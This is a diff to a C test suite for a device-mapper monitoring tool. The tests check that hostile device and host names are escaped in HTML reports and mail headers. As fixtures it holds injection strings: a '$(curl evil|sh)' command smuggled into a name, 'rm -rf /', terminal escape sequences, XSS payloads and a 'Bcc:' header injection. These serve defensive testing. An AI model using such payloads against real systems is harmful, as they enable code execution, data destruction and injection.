@@ -12,6 +12,7 @@
 #include <unistd.h>
 #include "analyze/classify.h"
 #include "render/html.h"
+#include "render/mail.h"
 #include "render/output.h"
 #include "model/state.h"
 #include "test.h"
@@ -79,12 +80,16 @@ TEST(html_escape_text_and_attributes)
 	s = escaped("<a href=\"x\">&'</a>");
 	CHECK_STR(s, "&lt;a href=&quot;x&quot;&gt;&amp;&#39;&lt;/a&gt;");
 	free(s);
-	s = escaped("Gr\xc3\xbc\xc3\x9f" "e \xe2\x82\xac tab\there");
-	CHECK_STR(s, "Gr\xc3\xbc\xc3\x9f" "e \xe2\x82\xac tab\there");
+	s = escaped("Gr\xc3\xbc\xc3\x9f" "e \xe2\x82\xac");
+	CHECK_STR(s, "Gr\xc3\xbc\xc3\x9f" "e \xe2\x82\xac");
 	free(s);
-	/* control bytes, a lone continuation byte, an overlong '/', a truncated sequence */
+	/* control bytes, a lone continuation byte, an overlong '/', a truncated sequence:
+	 * shown as the terminal shows them, not dropped */
 	s = escaped("a\x01" "b\x80" "c\xc0\xaf" "d\xe2\x82");
-	CHECK_STR(s, "a&#xFFFD;b&#xFFFD;c&#xFFFD;&#xFFFD;d&#xFFFD;&#xFFFD;");
+	CHECK_STR(s, "a\\x01b\\x80c\\xc0\\xafd\\xe2\\x82");
+	free(s);
+	s = escaped("tab\there\nnew line \x1b]0;title\x07 \xc2\x9b C1 back\\slash");
+	CHECK_STR(s, "tab\\there\\nnew line \\x1b]0;title\\x07 \\xc2\\x9b C1 back\\\\slash");
 	free(s);
 	s = escaped("");
 	CHECK_STR(s, "");
@@ -148,7 +153,7 @@ TEST(html_report_escapes_hostile_names)
 	CHECK(strstr(html, "pve-vm--104--disk--0&lt;img src=x onerror=alert(1)&gt;"));
 	CHECK(strstr(html, "&lt;script&gt;alert(&quot;g&quot;)&lt;/script&gt; &amp; &#39;q&#39;"));
 	CHECK(strstr(html, "<title>dmwatch pve1&quot;&gt;&lt;b&gt;&amp;amp;: grade F</title>"));
-	CHECK(strstr(html, "luks-&#xFFFD;&#xFFFD;&#xFFFD;&#xFFFD;-end"));
+	CHECK(strstr(html, "luks-\\x01\\xff\\xc0\\xaf-end"));
 	CHECK(strstr(html, "/etc/pve/&lt;x&gt;.conf"));
 	CHECK(strstr(html, "line 3: &quot;a&quot; &amp; &lt;b&gt;"));
 	CHECK(!strchr(html, '\x01'));
@@ -558,9 +563,173 @@ TEST(mail_headers_resist_injection)
 	free(subject);
 	/* mail_subject() alone is one line as well, whatever uses it (fuzz_state) */
 	subject = mail_subject(&r);
-	CHECK(subject && !strpbrk(subject, "\r\n") && strstr(subject, "evil?Bcc"));
+	CHECK(subject && !strpbrk(subject, "\r\n") && strstr(subject, "evil\\nBcc"));
 	free(subject);
 	free(msg);
+	report_free(&r);
+	state_free(&st);
+}
+
+/* Names that would act on a terminal, forge a line, run a command or break UTF-8. */
+static const char *const nasty_names[] = {
+	"esc\x1b[2J\x1b]0;pwned\x07-end",
+	"line\nfix: rm -rf /",
+	"x $(curl evil|sh)",
+	"bad\xff\xfe\xc0\xaf-utf8",
+};
+
+/* &amp; &lt; &gt; &quot; &#39; back to text (all the references html_escape writes) */
+static char *html_unescape(const char *s, size_t n)
+{
+	static const char *const refs[][2] = {
+		{ "&amp;", "&" }, { "&lt;", "<" }, { "&gt;", ">" }, { "&quot;", "\"" }, { "&#39;", "'" },
+	};
+	char *out = xmalloc(n + 1), *o = out;
+
+	for (size_t i = 0; i < n;) {
+		size_t k;
+
+		for (k = 0; k < ARRAY_SIZE(refs); k++)
+			if (!strncmp(s + i, refs[k][0], strlen(refs[k][0])))
+				break;
+		if (k < ARRAY_SIZE(refs)) {
+			*o++ = refs[k][1][0];
+			i += strlen(refs[k][0]);
+		} else {
+			*o++ = s[i++];
+		}
+	}
+	*o = 0;
+	return out;
+}
+
+/* bytes a terminal or mail reader would act on: anything below 0x20 but the page's own \n */
+static bool has_raw_control(const char *s)
+{
+	for (const unsigned char *p = (const unsigned char *)s; *p; p++)
+		if ((*p < 0x20 && *p != '\n') || *p == 0x7f)
+			return true;
+	return false;
+}
+
+/* a command with shell_quoted() names survives the page exactly: paste gives the same argv */
+TEST(html_command_keeps_shell_quoting)
+{
+	for (size_t i = 0; i < ARRAY_SIZE(nasty_names); i++) {
+		char *q = shell_quoted(nasty_names[i]), *cmd = xasprintf("dmsetup remove %s", q);
+		char *buf = NULL, *back;
+		size_t len = 0;
+		FILE *f = open_memstream(&buf, &len);
+
+		html_escape_command(f, cmd);
+		fclose(f);
+		CHECK(!has_raw_control(buf) && !strchr(buf, '\n') && !strchr(buf, '<'));
+		back = html_unescape(buf, len);
+		CHECK_STR(back, cmd);
+		free(back);
+		free(buf);
+		free(cmd);
+		free(q);
+	}
+}
+
+TEST(html_and_mail_show_control_bytes_escaped)
+{
+	struct classify_opts o;
+	struct state st;
+	struct report r;
+	char *html, *msg, *subject, *end, *want;
+	size_t n_dev = 0;
+
+	if (fixture_state(&st, "cluster.json")) {
+		FAIL_AT("fixture");
+		return;
+	}
+	free(st.host);
+	st.host = xstrdup("pve\x1b]0;owned\x07");
+	/* duplicates and tombstones, so every name gets a finding with a remedy */
+	for (size_t i = 0; i < st.n_devs && n_dev < ARRAY_SIZE(nasty_names); i++) {
+		if (strcmp(st.devs[i].name, "pve-vm--101--disk--0-dup") &&
+		    strcmp(st.devs[i].name, "pve-vm--104--disk--0") &&
+		    strcmp(st.devs[i].name, "luks-abc") && strncmp(st.devs[i].name, "ssd--ha01", 9))
+			continue;
+		free(st.devs[i].name);
+		st.devs[i].name = xstrdup(nasty_names[n_dev++]);
+	}
+	CHECK_INT(n_dev, ARRAY_SIZE(nasty_names));
+	classify_opts_default(&o);
+	classify(&st, &o, &r);
+	html = render_html(&r, NULL);
+
+	CHECK(utf8_valid(html, strlen(html)));
+	CHECK(!has_raw_control(html));
+	check_tags(failed__, html);
+	CHECK(strstr(html, "esc\\x1b[2J\\x1b]0;pwned\\x07-end"));
+	CHECK(strstr(html, "line\\nfix: rm -rf /"));
+	CHECK(strstr(html, "x $(curl evil|sh)"));
+	CHECK(strstr(html, "bad\\xff\\xfe\\xc0\\xaf-utf8"));
+	CHECK(strstr(html, "<title>dmwatch pve\\x1b]0;owned\\x07: grade F</title>"));
+	/* a remedy is shown byte for byte as classify wrote it (its quoting intact),
+	 * only with control bytes made visible */
+	for (size_t i = 0; i < r.n_devs; i++) {
+		const char *fix = r.devs[i].remedy, *at, *stop;
+		char *shown;
+
+		/* (a remedy with a raw control byte in it is not pasteable anyway) */
+		if (!fix || !term_visible(fix))
+			continue;
+		at = strstr(html, "<b>Fix:</b> ");
+		for (; at; at = strstr(at + 1, "<b>Fix:</b> ")) {
+			at = strchr(at, '>');
+			at = strstr(at, "<code");
+			at = at ? strchr(at, '>') + 1 : NULL;
+			stop = at ? strstr(at, "</code>") : NULL;
+			if (!stop)
+				break;
+			shown = html_unescape(at, stop - at);
+			if (!strcmp(shown, fix)) {
+				free(shown);
+				break;
+			}
+			free(shown);
+		}
+		if (!at)
+			FAIL_AT("remedy \"%s\" not shown as is", fix);
+	}
+
+	msg = compose(&r, NULL, NULL, NULL);
+	CHECK(!has_raw_control(msg));
+	end = strstr(msg, "\n\n");
+	if (end)
+		*end = 0;
+	subject = header(msg, "Subject");
+	want = xasprintf("[dmwatch] pve\\x1b]0;owned\\x07: grade F, %zu critical, %zu warnings",
+			 r.criticals, r.warnings);
+	CHECK_STR(subject, want);
+	free(want);
+	free(subject);
+	subject = mail_subject(&r);
+	CHECK(subject && !has_raw_control(subject));
+	free(subject);
+	free(msg);
+
+	/* "scan failed": the reason (a path from --state, say) escaped too */
+	msg = compose(NULL, "pve\nBcc: x@y", "cannot read /tmp/\x1b[2Jstate.json: No such file", NULL);
+	CHECK(!has_raw_control(msg));
+	CHECK(!strstr(msg, "\nBcc:"));
+	subject = header(msg, "Subject");
+	CHECK_STR(subject, "[dmwatch] pve\\nBcc: x@y: scan failed");
+	free(subject);
+	end = strstr(msg, "\n\n");
+	if (end) {
+		char *body = qp_decode(end + 2, strlen(end + 2));
+
+		CHECK(strstr(body, "cannot read /tmp/\\x1b[2Jstate.json"));
+		CHECK(strstr(body, "could not scan pve\\nBcc: x@y:"));
+		free(body);
+	}
+	free(msg);
+	free(html);
 	report_free(&r);
 	state_free(&st);
 }
